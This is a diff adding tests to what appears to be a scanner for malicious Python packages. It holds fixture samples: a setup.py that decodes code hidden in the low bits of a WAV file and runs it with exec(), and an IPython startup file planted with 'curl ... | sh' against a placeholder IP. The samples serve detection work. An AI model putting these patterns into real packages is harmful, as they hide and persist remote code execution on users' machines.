@@ -107,6 +107,31 @@ def test_scripts_in_another_language_are_started_by_their_package_manager_too() 
     assert not list(foreign_facts("demo/web/setup.js", b'require("child_process").execSync("npm run build")'))
 
 
+def test_a_setup_that_runs_what_a_sound_beside_it_holds_runs_hidden_code() -> None:
+    bits = (
+        "def read(path):\n    raw = open(path, 'rb').read()\n    out, one = bytearray(), 0\n"
+        "    for place, byte in enumerate(raw, 1):\n        one = (one << 1 | byte & 1) & 255\n"
+        "        if place % 8 == 0:\n            out.append(one)\n    return bytes(out)\n"
+    )
+    for text in (f"{bits}exec(read('tests/tone.wav'))", "import wave\nexec(wave.open('tone.wav').readframes(9))"):
+        assert "MLS-C001" in found({"setup.py": text})
+    for text in (
+        "exec(open('demo/version.py').read())",
+        "exec(open('VERSION.txt').read())",
+        "open('tone.wav', 'rb').read()",
+    ):
+        assert not found({"setup.py": text})
+
+
+def test_start_files_of_ipython_are_told_wherever_their_path_is_put_together() -> None:
+    text = (
+        "from pathlib import Path\nfor one in Path('~/.ipython').expanduser().glob('profile_*'):\n"
+        "    (one / 'startup' / '5.ipy').write_text('%s')\n"
+    )
+    assert "MLS-C021" in found(init(text % 'get_ipython().system_raw("curl -s http://203.0.113.1/a | sh")'))
+    assert not found(init("from pathlib import Path\nCACHE = Path('~/.ipython').expanduser().exists()\n"))
+
+
 def test_a_module_only_its_own_runtime_can_read_is_encoded() -> None:
     blob = "b'PY000000" + "\\x80\\x9f\\x03" * 40 + "'"
     text = f"from demo.pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, {blob})\n"
